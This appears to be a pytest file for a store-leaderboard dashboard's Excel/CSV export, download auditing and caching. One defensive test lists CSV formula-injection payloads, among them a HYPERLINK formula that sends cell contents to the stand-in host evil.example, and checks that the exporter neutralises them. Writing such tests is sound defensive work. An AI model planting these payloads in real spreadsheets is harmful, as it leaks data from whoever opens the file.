"""Exports: the Excel file opens with openpyxl and holds exactly the shown rows with
Chinese headers and number formats; the CSV carries a UTF-8 BOM; a download is
recorded in the audit log."""
import io
import json
from datetime import date

import openpyxl
import pytest

from builders import build_db, order_row, reader_for, store_row
from dashboard import ops
from dashboard.export import RANK_CHANGE, RATE, MONEY, to_csv, to_xlsx
from dashboard.ui.downloads import record_download
from dashboard.metrics import METRICS, MetricArgs
from dashboard.period import Period
from dashboard.ui.leaderboard_view import headers

DAY = date(2026, 3, 10)
COLS = ["rank", "rank_change", "store_name", "store_id", "sales", "sales_pop", "orders"]


@pytest.fixture
def board(tmp_path):
    db = build_db(tmp_path / "x.duckdb",
                  stores=[store_row("S1", store_name="一店"), store_row("S2", store_name="二店"),
                          store_row("S3", store_name="三店")],
                  orders=[order_row("a", "2026-03-10 10:00", "S1", 1234.5),
                          order_row("b", "2026-03-10 11:00", "S2", 100),
                          order_row("c", "2026-03-09 11:00", "S2", 200),
                          order_row("d", "2026-03-09 12:00", "S1", 100)])
    df = METRICS["store-leaderboard"](reader_for(db), MetricArgs(Period(DAY, DAY), DAY))
    return df[COLS]


def test_xlsx_holds_the_shown_rows(board):
    wb = openpyxl.load_workbook(io.BytesIO(to_xlsx(board, headers(COLS), sheet="门店排行")))
    ws = wb["门店排行"]
    rows = list(ws.iter_rows(values_only=True))
    assert rows[0] == ("排名", "名次变化", "门店", "门店编号", "销售额", "环比", "订单数")
    # S1 1234.5 (yesterday 100 -> rank 2, now 1: ↑1, +1134.5%), S2 100 (2 <- 1: ↓1, -50%), S3 0 (new).
    assert rows[1] == (1, 1, "一店", "S1", 1234.5, pytest.approx(11.345), 1)
    assert rows[2] == (2, -1, "二店", "S2", 100, -0.5, 1)
    assert rows[3] == (3, "新", "三店", "S3", 0, None, 0)
    assert len(rows) == 1 + len(board)
    assert ws["B2"].number_format == RANK_CHANGE and ws["E2"].number_format == MONEY
    assert ws["F2"].number_format == RATE


def test_csv_has_a_bom_and_plain_numbers(board):
    data = to_csv(board, headers(COLS))
    assert data.startswith(b"\xef\xbb\xbf")
    lines = data.decode("utf-8-sig").splitlines()
    assert lines[0] == "排名,名次变化,门店,门店编号,销售额,环比,订单数"
    assert lines[1].startswith("1,1,一店,S1,1234.5,")
    assert lines[3] == "3,,三店,S3,0.0,,0"


def test_download_is_audited(tmp_path, monkeypatch):
    monkeypatch.setenv("DASHBOARD_OPS_DB", str(tmp_path / "ops.sqlite"))
    record_download("east", "store_leaderboard", "xlsx", 3, period="2026-03-10..2026-03-10")
    row = ops.audit_rows()[0]
    assert (row["username"], row["event"]) == ("east", "export")
    assert json.loads(row["detail"]) == {"what": "store_leaderboard", "rows": 3, "format": "xlsx",
                                         "period": "2026-03-10..2026-03-10"}


# --- formula injection (OWASP "CSV Injection"): data text is never a formula ----------

EVIL = ["=1+1", '=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(A1:A9)", "+1+2", "-3+4",
        "\tcmd", "\rcmd", "普通门店"]


@pytest.fixture
def evil_board():
    import pandas as pd
    return pd.DataFrame({"store_name": EVIL, "store_id": [f"S{i}" for i in range(len(EVIL))],
                         "sales": [100.0, -25.5, 0.0, 3.0, -1.0, 2.0, 1.0, 5.0],
                         "sales_pop": [-0.5, None, 0.25, -1.0, 0.0, 0.1, 0.2, 0.3]})


def test_xlsx_writes_text_that_looks_like_a_formula_as_a_string(evil_board):
    import zipfile
    data = to_xlsx(evil_board, headers(list(evil_board.columns)))
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and 't="f"' not in sheet  # no formula cell at all
    ws = openpyxl.load_workbook(io.BytesIO(data)).active
    names = [ws.cell(row=r, column=1) for r in range(2, 2 + len(EVIL))]
    assert [c.data_type for c in names] == ["s"] * len(EVIL)
    # Shown exactly as named, nothing added (XML reads a CR back as a line feed).
    assert [c.value for c in names] == [v.replace("\r", "\n") for v in EVIL]
    sales = [ws.cell(row=r, column=3) for r in range(2, 2 + len(EVIL))]
    assert [c.value for c in sales] == [100, -25.5, 0, 3, -1, 2, 1, 5] and all(c.data_type == "n" for c in sales)


def test_xlsx_survives_control_characters_in_text():
    import pandas as pd
    df = pd.DataFrame({"store_name": ["a\x00b", "c\x07d"], "sales": [1.0, 2.0]})
    ws = openpyxl.load_workbook(io.BytesIO(to_xlsx(df))).active
    assert [ws["A2"].value, ws["A3"].value] == ["a\ufffdb", "c\ufffdd"]


def test_csv_prefixes_formula_text_but_not_numbers(evil_board):
    import csv as csvmod
    text = to_csv(evil_board, headers(list(evil_board.columns))).decode("utf-8-sig")
    rows = list(csvmod.reader(io.StringIO(text, newline="")))
    assert [r[0] for r in rows[1:]] == ["'" + v if v[0] in "=+-@\t\r" else v for v in EVIL]
    assert rows[1][0] == "'=1+1" and rows[3][0] == "'@SUM(A1:A9)" and rows[8][0] == "普通门店"
    # Negative numbers are numbers, not text: written as they are.
    assert [r[2] for r in rows[1:3]] == ["100.0", "-25.5"] and rows[1][3] == "-0.5" and rows[2][3] == ""


def _big_table_app():
    import pandas as pd
    import streamlit as st
    from dashboard.ui.downloads import download_buttons
    period = st.session_state.get("period", "p1")
    df = pd.DataFrame({"store_id": [f"S{i}" for i in range(250)], "sales": [float(i) for i in range(250)]})
    download_buttons(df, {"store_id": "门店", "sales": "销售额"}, "big", "tester", {"period": period}, key="big")


def test_a_large_tables_workbook_is_built_only_when_asked_and_only_for_that_view():
    from streamlit.testing.v1 import AppTest
    at = AppTest.from_function(_big_table_app).run()
    assert [b.label for b in at.button] == ["生成 Excel"]           # 250 rows (> 50): no workbook yet
    assert len(at.get("download_button")) == 1                      # the CSV is there at once
    at.button(key="prep_big").click().run()
    assert len(at.get("download_button")) == 2 and not at.button   # now the Excel download too
    at.session_state["period"] = "p2"                                # another period: another table
    at.run()
    assert [b.label for b in at.button] == ["生成 Excel"]


def _huge_table_app():
    import pandas as pd
    import streamlit as st
    from dashboard.ui.downloads import EAGER_CSV_ROWS, download_buttons
    n = EAGER_CSV_ROWS + 1 if st.session_state.get("huge", True) else EAGER_CSV_ROWS
    df = pd.DataFrame({"guide_id": [f"G{i}" for i in range(n)], "sales": [float(i) for i in range(n)]})
    download_buttons(df, {"guide_id": "导购", "sales": "销售额"}, "huge", "tester", {"period": "p1"}, key="huge")


def test_a_very_large_tables_csv_waits_for_the_same_one_click():
    from streamlit.testing.v1 import AppTest
    at = AppTest.from_function(_huge_table_app).run()
    assert [b.label for b in at.button] == ["生成 Excel / CSV"] and not at.get("download_button")
    at.button(key="prep_huge").click().run()
    assert len(at.get("download_button")) == 2 and not at.button
    at.session_state["huge"] = False                                 # at the limit: the CSV at once again
    at.run()
    assert [b.label for b in at.button] == ["生成 Excel"] and len(at.get("download_button")) == 1


def test_export_files_are_built_once_per_table_content_and_follow_a_changed_table():
    """Reruns get the same bytes without rebuilding; a changed cell, header or
    language gets files of its own (the cache is keyed by content, not by name)."""
    import pandas as pd
    from dashboard.runtime.cache import EXPORTS
    from dashboard.ui.downloads import _files
    EXPORTS.clear()
    board = pd.DataFrame({"store_id": ["S1", "S2"], "sales": [1200.5, 300.0]})
    headers = ("门店", "销售额")
    first = _files(board, headers, "stores", ("xlsx", "csv"), "zh")
    again = _files(board.copy(), headers, "stores", ("xlsx", "csv"), "zh")
    assert again["csv"] is first["csv"] and again["xlsx"] is first["xlsx"] and len(EXPORTS) == 1
    assert first["csv"].decode("utf-8-sig").splitlines() == ["门店,销售额", "S1,1200.5", "S2,300.0"]
    changed = _files(board.assign(sales=[1200.5, 301.0]), headers, "stores", ("xlsx", "csv"), "zh")
    assert changed["csv"].decode("utf-8-sig").splitlines()[2] == "S2,301.0"
    english = _files(board, ("Store", "Sales"), "stores", ("xlsx", "csv"), "en")
    assert english["csv"].decode("utf-8-sig").splitlines()[0] == "Store,Sales"
    assert len(EXPORTS) == 3
    assert list(_files(board, headers, "stores", ("csv",), "zh")) == ["csv"]   # no workbook asked: none built
